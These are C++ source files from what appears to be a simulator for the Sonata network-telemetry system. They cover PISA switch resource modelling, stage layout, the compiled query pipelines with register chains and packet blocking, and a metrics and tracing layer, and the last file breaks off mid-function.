  [[nodiscard]] std::size_t blocked_keys() const noexcept;

  // Modelled driver latencies, calibrated to the paper's Tofino
  // micro-benchmark: 200 entry updates ~ 127 ms, register reset ~ 4 ms.
  static constexpr double kMillisPerEntryUpdate = 127.0 / 200.0;
  static constexpr double kMillisPerRegisterReset = 4.0;

 private:
  // Resolve metric handles for the installed pipelines (called once at
  // install) and publish the window's single-writer tallies into the
  // global registry (called from reset_all_registers, before clearing).
  void init_obs_handles();
  void publish_obs();

  struct ObsHandles {
    obs::Counter* packets = nullptr;
    obs::Counter* dropped = nullptr;
    obs::Counter* emit_stream = nullptr;
    obs::Counter* emit_key_report = nullptr;
    obs::Counter* emit_overflow = nullptr;
    obs::Histogram* probe_depth = nullptr;
    // Parallel to pipelines_; inner vector parallel to stateful_op_stats().
    std::vector<std::vector<obs::Gauge*>> occupancy;
    // Same shape; non-null only for HashPipe-backed ops (evicted weight).
    std::vector<std::vector<obs::Gauge*>> evicted;
    // Counters export deltas since the previous publish; these snapshot
    // the last-published cumulative totals.
    std::uint64_t packets_pub = 0;
    std::uint64_t dropped_pub = 0;
    std::uint64_t stream_pub = 0;
    std::uint64_t key_report_pub = 0;
    std::uint64_t overflow_pub = 0;
    std::vector<std::uint64_t> probe_pub;  // flattened [pipeline][depth]
  };

  SwitchConfig cfg_;
  std::vector<std::unique_ptr<CompiledSwitchQuery>> pipelines_;
  Layout layout_;
  SwitchStats stats_;
  EmitSink scratch_sink_;  // backs the legacy vector-based wrappers
  std::string obs_label_ = "0";
  ObsHandles obs_;
  // Guard table: source-schema column index -> blocked key values.
  std::vector<std::pair<std::size_t, std::unordered_set<query::Value, query::ValueHasher>>>
      blocks_;
};

}  // namespace sonata::pisa
