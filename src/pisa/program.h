// Resource-accounting view of a compiled query: the ordered match-action
// tables one (query, refinement-level) pipeline occupies on the switch.
//
// This is the input to stage layout (constraints C1-C5 of the planner ILP,
// paper Table 2) and to the planner's feasibility checks. The *executable*
// counterpart is CompiledSwitchQuery in switch.h; the two are produced by
// the same compile step so they always agree.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "query/ops.h"
#include "query/query.h"

namespace sonata::pisa {

struct TableSpec {
  std::string name;            // e.g. "q3.s0.L8/t2:reduce[reg1]"
  query::OpKind op = query::OpKind::kFilter;
  std::size_t op_index = 0;    // index of the originating operator
  bool stateful = false;       // accesses register memory
  std::uint64_t register_bits = 0;  // bits this table's register array needs
  int actions = 1;             // stateless action count (map: #projections)
};

// Register sizing chosen by the planner for one stateful operator.
struct RegisterSizing {
  std::size_t entries = 1024;  // n
  int depth = 1;               // d
  // Back this op's registers with a HashPipe heavy-hitter pipeline instead
  // of an exact d-way chain: fixed memory, never overflows to the SP,
  // evicted weight tracked as an error bound (sketched queries only).
  bool sketch = false;
};

struct ProgramResources {
  query::QueryId qid = 0;
  int source_index = 0;     // which leaf of the query tree
  int level = 0;            // refinement level (finest for unrefined plans)
  std::size_t partition = 0;  // number of operators executed on the switch
  std::vector<TableSpec> tables;
  int metadata_bits = 0;    // M_q: PHV budget this pipeline consumes

  [[nodiscard]] std::uint64_t total_register_bits() const noexcept {
    std::uint64_t bits = 0;
    for (const auto& t : tables) bits += t.register_bits;
    return bits;
  }
  [[nodiscard]] int stateful_tables() const noexcept {
    int n = 0;
    for (const auto& t : tables) n += t.stateful ? 1 : 0;
    return n;
  }
};

}  // namespace sonata::pisa
