// Stage layout: place every program's match-action tables into the
// physical pipeline subject to the ILP's switch constraints (paper Table 2):
//   C1  per-stage register bits  <= B
//   C2  per-stage stateful ops   <= A
//   C3  every table in a stage    < S
//   C4  tables of one query in increasing stage order
//   C5  total PHV metadata       <= M
// plus the per-register cap within a stage.
//
// Independent queries share stages freely; dependent tables of the same
// pipeline occupy strictly increasing stages. The greedy earliest-fit order
// is optimal for C3/C4 given per-stage capacities, and the planner treats a
// failed layout as an infeasible candidate plan.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "pisa/config.h"
#include "pisa/program.h"

namespace sonata::pisa {

struct StageUsage {
  int stateful = 0;
  int stateless_actions = 0;
  std::uint64_t register_bits = 0;
};

struct Layout {
  bool feasible = false;
  std::string error;                           // why layout failed
  std::vector<std::vector<int>> table_stages;  // [program][table] -> stage
  std::vector<StageUsage> stages;
  int metadata_bits_used = 0;
};

[[nodiscard]] Layout assign_stages(const SwitchConfig& cfg,
                                   const std::vector<ProgramResources>& programs);

}  // namespace sonata::pisa
