// Data-plane compiler: decides which prefix of a sub-query's operator chain
// a PISA switch can execute and derives the match-action tables + PHV
// metadata that prefix occupies (paper §3.1.2-3.1.3).
//
// Rules encoded here:
//  * filter / filter_in / map compile to one match-action table each,
//    provided every expression is switch-compilable (no division by
//    non-powers-of-two, no payload scans, no metadata-less columns);
//  * distinct / reduce compile to one hash-index table plus d stateful
//    register tables (one per register in the collision chain);
//  * a threshold filter (`value > Th`) immediately following a reduce folds
//    into the reduce's table — no extra table (paper §3.3 "Input");
//  * once a reduce executes on the switch, only its folded filter may
//    follow: aggregates are per-key values that later operators would need
//    at end-of-window, which the switch cannot re-process in-band.
#pragma once

#include <cstdint>
#include <map>

#include "pisa/program.h"
#include "query/query.h"

namespace sonata::pisa {

// Describes a foldable threshold filter.
struct FoldedThreshold {
  std::uint64_t threshold = 0;
  bool strict = true;  // true: value > Th, false: value >= Th
};

// If ops[i] is a filter foldable into the reduce at ops[i-1], return its
// threshold; otherwise nullopt. Requires validated node schemas.
[[nodiscard]] std::optional<FoldedThreshold> foldable_threshold(const query::StreamNode& node,
                                                                std::size_t i);

// Largest k such that executing ops[0..k) on the switch is semantically
// possible (ignoring resource limits). Requires validated node schemas.
[[nodiscard]] std::size_t max_switch_prefix(const query::StreamNode& node);

// All semantically valid partition points: 0 (nothing on the switch) up to
// max_switch_prefix, excluding "inside" a reduce+folded-filter pair (a
// folded filter never stays behind alone on the stream processor side —
// partitioning between the pair is allowed and simply un-folds it).
[[nodiscard]] std::vector<std::size_t> partition_points(const query::StreamNode& node);

// Build the resource-accounting view for executing ops[0..partition) on the
// switch. `sizing` maps stateful op index -> register sizing (entries n,
// depth d) chosen by the planner. Requires validated node schemas.
[[nodiscard]] ProgramResources build_resources(const query::StreamNode& node,
                                               std::size_t partition,
                                               const std::map<std::size_t, RegisterSizing>& sizing,
                                               query::QueryId qid, int source_index, int level);

// Key width in bits for the stateful operator at ops[i] (whole tuple for
// distinct, the group-by keys for reduce).
[[nodiscard]] int stateful_key_bits(const query::StreamNode& node, std::size_t i);

}  // namespace sonata::pisa
