#include "pisa/switch.h"

#include <algorithm>
#include <cassert>

#include "util/log.h"

namespace sonata::pisa {

using query::OpKind;
using query::Operator;
using query::Schema;
using query::Tuple;

CompiledSwitchQuery::CompiledSwitchQuery(const query::StreamNode& node, Options opts)
    : node_(node), opts_(std::move(opts)) {
  assert(node_.kind == query::StreamNode::Kind::kSource);
  assert(node_.schemas.size() == node_.ops.size() + 1);
  assert(opts_.partition <= node_.ops.size());

  for (std::size_t i = 0; i < opts_.partition; ++i) {
    const Operator& op = node_.ops[i];
    const Schema& in = node_.schemas[i];
    CompiledOp cop;
    cop.kind = op.kind;
    cop.op_index = i;
    switch (op.kind) {
      case OpKind::kFilter:
        if (foldable_threshold(node_, i)) continue;  // folded into the reduce below
        cop.pred = op.predicate->bind(in);
        break;
      case OpKind::kFilterIn:
        for (const auto& m : op.match_exprs) cop.match.push_back(m->bind(in));
        cop.table_name = op.table_name;
        break;
      case OpKind::kMap:
        for (const auto& p : op.projections) cop.projections.push_back(p.expr->bind(in));
        break;
      case OpKind::kDistinct: {
        const auto it = opts_.sizing.find(i);
        const RegisterSizing rs = it != opts_.sizing.end() ? it->second : RegisterSizing{};
        RegisterChainConfig rc;
        rc.entries_per_register = rs.entries;
        rc.depth = rs.depth;
        rc.key_bits = stateful_key_bits(node_, i);
        rc.value_bits = 1;
        rc.hash_seed = opts_.hash_seed;
        cop.chain = std::make_unique<RegisterChain>(rc);
        break;
      }
      case OpKind::kReduce: {
        for (const auto& k : op.keys) {
          const auto idx = in.index_of(k);
          assert(idx);
          cop.key_idx.push_back(*idx);
        }
        const auto vidx = in.index_of(op.value_col);
        assert(vidx);
        cop.value_idx = *vidx;
        cop.fn = op.fn;
        const auto it = opts_.sizing.find(i);
        const RegisterSizing rs = it != opts_.sizing.end() ? it->second : RegisterSizing{};
        RegisterChainConfig rc;
        rc.entries_per_register = rs.entries;
        rc.depth = rs.depth;
        rc.key_bits = stateful_key_bits(node_, i);
        rc.value_bits = 32;
        rc.hash_seed = opts_.hash_seed;
        rc.hashpipe = rs.sketch;
        cop.chain = std::make_unique<RegisterChain>(rc);
        // Fold the following threshold filter, if present and included in
        // the partition.
        if (i + 1 < opts_.partition) cop.folded = foldable_threshold(node_, i + 1);
        break;
      }
    }
    ops_.push_back(std::move(cop));
  }

  if (!ops_.empty() && ops_.back().kind == OpKind::kReduce) {
    tail_reduce_ = &ops_.back();
    // Polled aggregates re-enter the chain AT the reduce: the stream
    // processor folds them into its own (overflow-corrected) state and
    // applies the trailing threshold to the merged totals.
    poll_entry_ = tail_reduce_->op_index;
  } else {
    poll_entry_ = opts_.partition;
  }
}

bool CompiledSwitchQuery::process_into(const Tuple& source, EmitSink& sink) {
  ++packets_seen_;
  // Borrow the caller's tuple until an op actually rewrites it: the common
  // paths (filter drop, register update with no emission) never copy the
  // 14-column PHV at all. `owned` materializes only when a map fires; the
  // copy at an emit site only happens for packets that mirror a record.
  const Tuple* cur = &source;
  Tuple owned;
  const auto emit_cur = [&](EmitRecord::Kind kind, std::size_t op_index) {
    ++emitted_;
    if (cur == &owned) {
      sink.append(EmitRecord{kind, opts_.qid, opts_.source_index, opts_.level, op_index,
                             std::move(owned)});
    } else {
      sink.append(EmitRecord{kind, opts_.qid, opts_.source_index, opts_.level, op_index, *cur});
    }
  };
  for (auto& cop : ops_) {
    switch (cop.kind) {
      case OpKind::kFilter: {
        if (cop.pred(*cur).as_uint() == 0) return false;
        break;
      }
      case OpKind::kFilterIn: {
        Tuple key;
        key.values.reserve(cop.match.size());
        for (const auto& m : cop.match) key.values.push_back(m(*cur));
        if (!cop.entries.contains(key)) return false;
        break;
      }
      case OpKind::kMap: {
        Tuple next;
        next.values.reserve(cop.projections.size());
        for (const auto& p : cop.projections) next.values.push_back(p(*cur));
        owned = std::move(next);
        cur = &owned;
        break;
      }
      case OpKind::kDistinct: {
        const auto r = cop.chain->update(*cur, 1, query::ReduceFn::kBitOr);
        ++probe_tally_[std::min(r.probes, kProbeTallyMax)];
        if (r.overflow) {
          ++overflows_;
          emit_cur(EmitRecord::Kind::kOverflow, cop.op_index);
          return true;
        }
        if (!r.newly_inserted) return false;  // duplicate within window
        break;
      }
      case OpKind::kReduce: {
        Tuple key = query::project(*cur, cop.key_idx);
        const std::uint64_t delta = cur->at(cop.value_idx).as_uint();
        const auto r = cop.chain->update(key, delta, cop.fn);
        ++probe_tally_[std::min(r.probes, kProbeTallyMax)];
        if (r.overflow) {
          ++overflows_;
          // The SP re-runs the reduce (and everything after) for this key.
          emit_cur(EmitRecord::Kind::kOverflow, cop.op_index);
          return true;
        }
        bool report = false;
        if (cop.folded) {
          const bool passes = cop.folded->strict ? r.value > cop.folded->threshold
                                                 : r.value >= cop.folded->threshold;
          if (passes) report = cop.chain->mark_reported(key);
        } else {
          report = r.newly_inserted;
        }
        if (!report) return false;
        Tuple out = std::move(key);
        out.values.emplace_back(r.value);
        ++emitted_;
        ++key_reports_;
        sink.append(EmitRecord{EmitRecord::Kind::kKeyReport, opts_.qid, opts_.source_index,
                               opts_.level, poll_entry_, std::move(out)});
        return true;
      }
    }
  }
  // Stateless tail: the tuple itself streams to the SP.
  emit_cur(EmitRecord::Kind::kStream, opts_.partition);
  return true;
}

std::optional<EmitRecord> CompiledSwitchQuery::process(const Tuple& source) {
  EmitSink sink;
  if (!process_into(source, sink)) return std::nullopt;
  return std::move(sink.records().front());
}

std::vector<Tuple> CompiledSwitchQuery::poll_aggregates() const {
  std::vector<Tuple> out;
  if (!tail_reduce_) return out;
  for (auto& [key, value] : tail_reduce_->chain->entries()) {
    out.push_back(shape_polled(key, value));
  }
  return out;
}

CompiledSwitchQuery::PolledPartial CompiledSwitchQuery::poll_partial() const {
  PolledPartial out;
  if (!tail_reduce_) return out;
  auto entries = tail_reduce_->chain->entries();
  out.keys.reserve(entries.size());
  out.values.reserve(entries.size());
  for (auto& [key, value] : entries) {
    out.keys.push_back(std::move(key));
    out.values.push_back(value);
  }
  return out;
}

Tuple CompiledSwitchQuery::shape_polled(const Tuple& key, std::uint64_t value) const {
  assert(tail_reduce_);
  // Shape the aggregate like a reduce-input tuple: keys at their key
  // positions, the aggregate in the value column, anything else zeroed.
  const Schema& in = node_.schemas[tail_reduce_->op_index];
  Tuple t;
  t.values.assign(in.size(), query::Value{std::uint64_t{0}});
  for (std::size_t k = 0; k < tail_reduce_->key_idx.size(); ++k) {
    t.values[tail_reduce_->key_idx[k]] = key.at(k);
  }
  t.values[tail_reduce_->value_idx] = query::Value{value};
  return t;
}

void CompiledSwitchQuery::reset_registers() {
  for (auto& cop : ops_) {
    if (cop.chain) cop.chain->reset();
  }
}

void CompiledSwitchQuery::reset_runtime_state() {
  reset_registers();
  // Stale dynamic-refinement winners must not filter the next plan's first
  // window — a freshly compiled pipeline starts with empty entry sets.
  for (auto& cop : ops_) {
    if (cop.kind == OpKind::kFilterIn) cop.entries.clear();
  }
}

std::vector<CompiledSwitchQuery::StatefulOpStats> CompiledSwitchQuery::stateful_op_stats() const {
  std::vector<StatefulOpStats> out;
  for (const auto& cop : ops_) {
    if (!cop.chain) continue;
    const RegisterChainConfig& rc = cop.chain->config();
    out.push_back({.op_index = cop.op_index,
                   .kind = cop.kind,
                   .keys_stored = cop.chain->keys_stored(),
                   .slots = static_cast<std::uint64_t>(rc.entries_per_register) *
                            static_cast<std::uint64_t>(rc.depth),
                   .overflows = cop.chain->overflow_count(),
                   .sketch = cop.chain->sketch(),
                   .evicted_weight = cop.chain->evicted_weight(),
                   .evicted_keys = cop.chain->evicted_keys()});
  }
  return out;
}

bool CompiledSwitchQuery::set_filter_entries(const std::string& table_name,
                                             std::vector<Tuple> entries) {
  for (auto& cop : ops_) {
    if (cop.kind == OpKind::kFilterIn && cop.table_name == table_name) {
      cop.entries.clear();
      for (auto& e : entries) cop.entries.insert(std::move(e));
      return true;
    }
  }
  return false;
}

std::string Switch::install(std::vector<std::unique_ptr<CompiledSwitchQuery>> pipelines,
                            const std::vector<ProgramResources>& resources) {
  Layout layout = assign_stages(cfg_, resources);
  if (!layout.feasible) return layout.error;
  pipelines_ = std::move(pipelines);
  layout_ = std::move(layout);
  init_obs_handles();
  SONATA_DEBUG("pisa", "installed %zu pipelines, metadata %d bits", pipelines_.size(),
               layout_.metadata_bits_used);
  return {};
}

std::vector<std::unique_ptr<CompiledSwitchQuery>> Switch::release_pipelines() {
  publish_obs();  // flush pending deltas before the baselines go away
  std::vector<std::unique_ptr<CompiledSwitchQuery>> out = std::move(pipelines_);
  pipelines_.clear();
  layout_ = Layout{};
  return out;
}

void Switch::init_obs_handles() {
  auto& reg = obs::Registry::global();
  const std::pair<std::string_view, std::string> sw{"sw", obs_label_};
  auto name1 = [&](const char* base) {
    const std::pair<std::string_view, std::string> labels[] = {sw};
    return obs::labeled(base, labels);
  };
  obs_.packets = &reg.counter(name1("sonata_pisa_packets_total"));
  obs_.dropped = &reg.counter(name1("sonata_pisa_dropped_total"));
  auto kind_name = [&](const char* kind) {
    const std::pair<std::string_view, std::string> labels[] = {sw, {"kind", kind}};
    return obs::labeled("sonata_pisa_emit_records_total", labels);
  };
  obs_.emit_stream = &reg.counter(kind_name("stream"));
  obs_.emit_key_report = &reg.counter(kind_name("key_report"));
  obs_.emit_overflow = &reg.counter(kind_name("overflow"));
  static constexpr std::uint64_t kProbeBounds[] = {1, 2, 3, 4, 6, 8};
  obs_.probe_depth = &reg.histogram(name1("sonata_pisa_probe_depth"), kProbeBounds);

  obs_.occupancy.clear();
  obs_.occupancy.reserve(pipelines_.size());
  obs_.evicted.clear();
  obs_.evicted.reserve(pipelines_.size());
  obs_.probe_pub.assign(pipelines_.size() * (CompiledSwitchQuery::kProbeTallyMax + 1), 0);
  // Baselines snapshot the *current* cumulative counters, not zero: a
  // pipeline reused across a plan swap (and a Switch reinstalled in place)
  // keeps counting from where it was, and the registry must only ever see
  // the delta since this install.
  obs_.packets_pub = stats_.packets_processed;
  obs_.dropped_pub = stats_.dropped_packets;
  obs_.stream_pub = obs_.key_report_pub = obs_.overflow_pub = 0;
  for (std::size_t i = 0; i < pipelines_.size(); ++i) {
    const auto& p = pipelines_[i];
    obs_.stream_pub += p->stream_records();
    obs_.key_report_pub += p->key_report_records();
    obs_.overflow_pub += p->overflow_records();
    const auto tally = p->probe_tally();
    std::uint64_t* pub = &obs_.probe_pub[i * tally.size()];
    for (std::size_t d = 0; d < tally.size(); ++d) pub[d] = tally[d];
  }
  for (const auto& p : pipelines_) {
    const auto& o = p->options();
    std::vector<obs::Gauge*> per_op;
    std::vector<obs::Gauge*> per_op_evicted;
    for (const auto& s : p->stateful_op_stats()) {
      const std::pair<std::string_view, std::string> labels[] = {
          sw,
          {"qid", std::to_string(o.qid)},
          {"src", std::to_string(o.source_index)},
          {"level", std::to_string(o.level)},
          {"op", std::to_string(s.op_index)}};
      per_op.push_back(&reg.gauge(obs::labeled("sonata_pisa_register_occupancy", labels)));
      reg.gauge(obs::labeled("sonata_pisa_register_slots", labels))
          .set(static_cast<std::int64_t>(s.slots));
      per_op_evicted.push_back(
          s.sketch ? &reg.gauge(obs::labeled("sonata_pisa_hashpipe_evicted_weight", labels))
                   : nullptr);
    }
    obs_.occupancy.push_back(std::move(per_op));
    obs_.evicted.push_back(std::move(per_op_evicted));
  }
}

void Switch::publish_obs() {
  if (!obs::enabled() || pipelines_.empty() || obs_.packets == nullptr) return;
  obs_.packets->add(stats_.packets_processed - obs_.packets_pub);
  obs_.packets_pub = stats_.packets_processed;
  obs_.dropped->add(stats_.dropped_packets - obs_.dropped_pub);
  obs_.dropped_pub = stats_.dropped_packets;

  std::uint64_t streams = 0, key_reports = 0, overflows = 0;
  for (std::size_t i = 0; i < pipelines_.size(); ++i) {
    const auto& p = *pipelines_[i];
    streams += p.stream_records();
    key_reports += p.key_report_records();
    overflows += p.overflow_records();
    // Register occupancy is a point-in-time gauge: published at window
    // close, before reset_all_registers clears the chains.
    const auto stats = p.stateful_op_stats();
    for (std::size_t s = 0; s < stats.size() && s < obs_.occupancy[i].size(); ++s) {
      obs_.occupancy[i][s]->set(static_cast<std::int64_t>(stats[s].keys_stored));
      if (obs::Gauge* g = obs_.evicted[i][s]) {
        g->set(static_cast<std::int64_t>(stats[s].evicted_weight));
      }
    }
    const auto tally = p.probe_tally();
    std::uint64_t* pub = &obs_.probe_pub[i * tally.size()];
    for (std::size_t d = 1; d < tally.size(); ++d) {
      const std::uint64_t delta = tally[d] - pub[d];
      if (delta != 0) obs_.probe_depth->observe_n(d, delta);
      pub[d] = tally[d];
    }
  }
  obs_.emit_stream->add(streams - obs_.stream_pub);
  obs_.stream_pub = streams;
  obs_.emit_key_report->add(key_reports - obs_.key_report_pub);
  obs_.key_report_pub = key_reports;
  obs_.emit_overflow->add(overflows - obs_.overflow_pub);
  obs_.overflow_pub = overflows;
}

void Switch::process_one(const Tuple& source, EmitSink& sink) {
  ++stats_.packets_processed;
  for (const auto& [col, keys] : blocks_) {
    if (col < source.size() && keys.contains(source.at(col))) {
      ++stats_.dropped_packets;
      return;  // guard table drops the packet at line rate
    }
  }
  const std::size_t before = sink.size();
  for (auto& p : pipelines_) {
    if (p->process_into(source, sink)) {
      ++stats_.records_emitted;
      if (sink.records().back().kind == EmitRecord::Kind::kOverflow) ++stats_.overflow_records;
    }
  }
  if (sink.size() != before) sink.note_packet_with_records();
}

void Switch::process_batch(std::span<const Tuple> sources, EmitSink& sink) {
  for (const Tuple& source : sources) process_one(source, sink);
}

void Switch::process(const net::Packet& packet, std::vector<EmitRecord>& out) {
  const Tuple source = query::materialize_tuple(packet);
  process_tuple(source, out);
}

void Switch::process_tuple(const Tuple& source, std::vector<EmitRecord>& out) {
  scratch_sink_.clear();
  process_one(source, scratch_sink_);
  for (EmitRecord& rec : scratch_sink_.records()) out.push_back(std::move(rec));
}

int Switch::update_filter_entries(const std::string& table_name,
                                  std::vector<query::Tuple> entries) {
  int updated = 0;
  for (auto& p : pipelines_) {
    // Each pipeline gets its own copy: entry sets are per-table state.
    if (p->set_filter_entries(table_name, entries)) {
      ++updated;
      stats_.filter_entry_updates += entries.size();
      stats_.control_update_millis += kMillisPerEntryUpdate * static_cast<double>(entries.size());
    }
  }
  if (updated > 0 && obs::enabled()) {
    const std::pair<std::string_view, std::string> labels[] = {{"sw", obs_label_},
                                                               {"table", table_name}};
    obs::Registry::global()
        .gauge(obs::labeled("sonata_pisa_filter_entries", labels))
        .set(static_cast<std::int64_t>(entries.size()));
  }
  return updated;
}

bool Switch::block(const std::string& field, const query::Value& key) {
  const auto idx = query::source_schema().index_of(field);
  if (!idx) return false;
  for (auto& [col, keys] : blocks_) {
    if (col == *idx) {
      if (keys.insert(key).second) {
        ++stats_.filter_entry_updates;
        stats_.control_update_millis += kMillisPerEntryUpdate;
      }
      return true;
    }
  }
  blocks_.push_back({*idx, {key}});
  ++stats_.filter_entry_updates;
  stats_.control_update_millis += kMillisPerEntryUpdate;
  return true;
}

void Switch::clear_blocks() { blocks_.clear(); }

std::size_t Switch::blocked_keys() const noexcept {
  std::size_t n = 0;
  for (const auto& [col, keys] : blocks_) n += keys.size();
  return n;
}

void Switch::reset_all_registers() {
  publish_obs();  // occupancy gauges must see the pre-reset register state
  for (auto& p : pipelines_) p->reset_registers();
  ++stats_.register_resets;
  stats_.control_update_millis += kMillisPerRegisterReset;
}

}  // namespace sonata::pisa
