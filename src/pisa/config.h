// PISA switch resource model (paper §3.2, Table 1).
//
// The evaluation parameterises four constraints: total pipeline stages (S),
// stateful actions per stage (A), register bits per stage (B) and PHV
// metadata bits (M). Defaults match the paper's simulated switch
// (S=16, A=8, B=8 Mb per stage, a single stateful operator limited to 4 Mb
// within a stage).
#pragma once

#include <cstdint>
#include <string>

namespace sonata::pisa {

struct SwitchConfig {
  int stages = 16;                                  // S
  int stateful_actions_per_stage = 8;               // A
  int stateless_actions_per_stage = 100;            // typical 100-200 (§3.2)
  std::uint64_t register_bits_per_stage = 8ULL * 1024 * 1024;  // B = 8 Mb
  std::uint64_t max_bits_per_register = 4ULL * 1024 * 1024;    // per-op cap within a stage
  std::uint64_t metadata_bits = 4 * 1024;           // M: PHV budget for query metadata

  [[nodiscard]] std::string to_string() const;
};

// Per-query overhead carried in the PHV besides the tuple columns: the
// query identifier and the one-bit report flag (paper §3.1.3).
inline constexpr int kQidBits = 16;
inline constexpr int kReportBits = 1;

}  // namespace sonata::pisa
