#include "obs/tracing.h"

#include <chrono>
#include <functional>
#include <thread>

namespace sonata::obs {

namespace {

std::uint32_t this_thread_tid() noexcept {
  // Small stable per-thread id for the trace viewer's lane assignment.
  static std::atomic<std::uint32_t> next{1};
  thread_local const std::uint32_t tid = next.fetch_add(1, std::memory_order_relaxed);
  return tid;
}

}  // namespace

std::uint64_t now_ns() noexcept {
  static const auto epoch = std::chrono::steady_clock::now();
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(std::chrono::steady_clock::now() -
                                                           epoch)
          .count());
}

TraceRecorder& TraceRecorder::global() {
  static TraceRecorder recorder;
  return recorder;
}

void TraceRecorder::record(const char* name, const char* cat, std::uint64_t start_ns,
                           std::uint64_t dur_ns) {
  if (!enabled()) return;
  {
    std::lock_guard lk(mu_);
    if (max_events_ == 0 || events_.size() < max_events_) {
      events_.push_back({name, cat, start_ns, dur_ns, this_thread_tid()});
      return;
    }
  }
  // Past the cap: keep the earliest spans (a run's warm-up and first
  // windows are the interesting part of an OOM-length soak) and count the
  // rest. The counter resolve is off the lock; drops are rare by design.
  dropped_.fetch_add(1, std::memory_order_relaxed);
  if (obs::enabled()) {
    static Counter& drops = Registry::global().counter("sonata_trace_events_dropped_total");
    drops.add(1);
  }
}

void TraceRecorder::set_max_events(std::size_t cap) {
  std::lock_guard lk(mu_);
  max_events_ = cap;
}

std::size_t TraceRecorder::max_events() const {
  std::lock_guard lk(mu_);
  return max_events_;
}

std::size_t TraceRecorder::size() const {
  std::lock_guard lk(mu_);
  return events_.size();
}

void TraceRecorder::clear() {
  std::lock_guard lk(mu_);
  events_.clear();
  dropped_.store(0, std::memory_order_relaxed);
}

std::string TraceRecorder::to_chrome_json() const {
  std::lock_guard lk(mu_);
  std::string out = "{\"traceEvents\": [\n";
  for (std::size_t i = 0; i < events_.size(); ++i) {
    const Event& e = events_[i];
    char buf[256];
    std::snprintf(buf, sizeof buf,
                  "  {\"name\": \"%s\", \"cat\": \"%s\", \"ph\": \"X\", \"pid\": 1, "
                  "\"tid\": %u, \"ts\": %.3f, \"dur\": %.3f}%s\n",
                  e.name, e.cat, e.tid, static_cast<double>(e.start_ns) / 1e3,
                  static_cast<double>(e.dur_ns) / 1e3, i + 1 == events_.size() ? "" : ",");
    out += buf;
  }
  out += "]}\n";
  return out;
}

const char* phase_name(Phase p) noexcept {
  switch (p) {
    case Phase::kIngest: return "ingest";
    case Phase::kCompute: return "compute";
    case Phase::kMerge: return "merge";
    case Phase::kPoll: return "poll";
    case Phase::kClose: return "close";
  }
  return "?";
}

void PhaseTimer::stop() noexcept {
  if (start_ == 0) return;
  const std::uint64_t end = now_ns();
  const std::uint64_t dur = end - start_;
  accum_->add(phase_, dur);
  TraceRecorder::global().record(phase_name(phase_), "window", start_, dur);
  start_ = 0;
}

}  // namespace sonata::obs
