// Low-overhead metrics registry (DESIGN.md "Observability").
//
// Three instrument kinds, all safe to update from any thread:
//   * Counter   — monotone u64, sharded per thread,
//   * Gauge     — last-writer-wins i64 (occupancy, fill levels),
//   * Histogram — fixed upper-bound buckets (le semantics, +Inf implicit),
//                 sharded per thread.
// Counters and histograms are backed by kShards cache-line-aligned
// relaxed-atomic cells; a thread is assigned a shard once (round-robin), so
// the hot path pays one uncontended relaxed increment and nothing is
// aggregated until snapshot time. Handles returned by the Registry are
// stable for the process lifetime — resolve them once at setup, never on
// the hot path.
//
// The whole subsystem is gated on a process-global enabled flag (off by
// default): a disabled instrument costs one relaxed load and a predictable
// branch. Single-writer hot loops (the switch data path) keep plain
// per-owner tallies instead and publish them here once per window — see
// pisa::Switch — so the per-packet cost stays at a plain increment either
// way.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

namespace sonata::obs {

// Process-global switch for every instrument in the registry (and for the
// drivers' phase timers). Off by default: an un-observed run pays only the
// plain single-writer tallies the data path keeps anyway.
[[nodiscard]] bool enabled() noexcept;
void set_enabled(bool on) noexcept;

inline constexpr std::size_t kShards = 16;

// Shard assigned to the calling thread (round-robin at first use). Threads
// beyond kShards share shards — still correct, just contended.
[[nodiscard]] std::size_t shard_index() noexcept;

// Format "name{k1="v1",k2="v2"}" — the canonical metric identity used as
// the registry key and by both exporters. Pairs must be pre-sorted by the
// caller if a canonical order matters (instrument sites use a fixed order).
[[nodiscard]] std::string labeled(
    std::string_view name,
    std::span<const std::pair<std::string_view, std::string>> labels);

class Counter {
 public:
  Counter(const Counter&) = delete;
  Counter& operator=(const Counter&) = delete;

  void add(std::uint64_t delta = 1) noexcept {
    if (!enabled()) return;
    cells_[shard_index()].v.fetch_add(delta, std::memory_order_relaxed);
  }

  [[nodiscard]] std::uint64_t value() const noexcept;

 private:
  friend class Registry;
  Counter() = default;
  void zero() noexcept;

  struct alignas(64) Cell {
    std::atomic<std::uint64_t> v{0};
  };
  Cell cells_[kShards];
};

class Gauge {
 public:
  Gauge(const Gauge&) = delete;
  Gauge& operator=(const Gauge&) = delete;

  void set(std::int64_t v) noexcept {
    if (!enabled()) return;
    v_.store(v, std::memory_order_relaxed);
  }
  void add(std::int64_t delta) noexcept {
    if (!enabled()) return;
    v_.fetch_add(delta, std::memory_order_relaxed);
  }

  [[nodiscard]] std::int64_t value() const noexcept {
    return v_.load(std::memory_order_relaxed);
  }

 private:
  friend class Registry;
  Gauge() = default;

  std::atomic<std::int64_t> v_{0};
};

class Histogram {
 public:
  Histogram(const Histogram&) = delete;
  Histogram& operator=(const Histogram&) = delete;

  // Bucket of `v` under le semantics: the first bound >= v, else the
  // implicit +Inf bucket at index bounds().size().
  [[nodiscard]] std::size_t bucket_of(std::uint64_t v) const noexcept {
    std::size_t i = 0;
    while (i < bounds_.size() && v > bounds_[i]) ++i;
    return i;
  }

  void observe(std::uint64_t v) noexcept { observe_n(v, 1); }

  // Record `n` samples of value `v` with one pair of increments — how the
  // single-writer data-path tallies publish a whole window at once.
  void observe_n(std::uint64_t v, std::uint64_t n) noexcept {
    if (n == 0 || !enabled()) return;
    Shard& s = shards_[shard_index()];
    s.buckets[bucket_of(v)].fetch_add(n, std::memory_order_relaxed);
    s.sum.fetch_add(v * n, std::memory_order_relaxed);
  }

  // Merge a whole pre-bucketed tally in one shot: counts[i] adds to bucket
  // i (le semantics, trailing +Inf last), `sum` to the running sum. This is
  // how single-writer per-window tallies (report latency) publish without
  // per-sample registry traffic. Extra entries beyond this histogram's
  // bucket count fold into +Inf.
  void merge_counts(std::span<const std::uint64_t> counts, std::uint64_t sum) noexcept {
    if (!enabled()) return;
    Shard& s = shards_[shard_index()];
    const std::size_t nbuckets = bounds_.size() + 1;
    for (std::size_t i = 0; i < counts.size(); ++i) {
      if (counts[i] == 0) continue;
